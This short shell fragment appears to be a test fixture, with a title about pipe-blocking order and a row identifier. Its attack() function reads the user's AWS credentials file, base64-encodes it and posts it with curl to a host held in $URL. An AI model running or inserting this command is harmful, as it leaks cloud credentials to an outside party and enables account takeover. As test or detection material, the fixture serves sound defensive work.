# SPDX-License-Identifier: Apache-2.0
TITLE="cat | base64 | curl: the last reader blocks before the first has read"
ROW="I01 E14"
attack() { { sleep 0.3; cat "$HOME/.aws/credentials"; } | base64 -w0 | curl -s -m 5 -d @- "$URL/"; }
